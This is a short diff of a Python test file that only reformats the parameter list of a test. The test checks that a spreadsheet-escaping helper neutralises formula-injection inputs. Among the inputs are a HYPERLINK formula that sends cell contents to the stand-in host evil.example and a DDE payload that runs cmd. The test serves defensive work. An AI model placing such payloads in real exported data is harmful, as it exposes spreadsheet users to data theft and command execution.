@@ -14,8 +14,17 @@ from tests.factories import make_chain
 pytestmark = pytest.mark.django_db
 
 
-@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
-                                  "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
 def test_formula_starts_are_escaped(text):
     assert spreadsheet_safe(text) == "'" + text
 
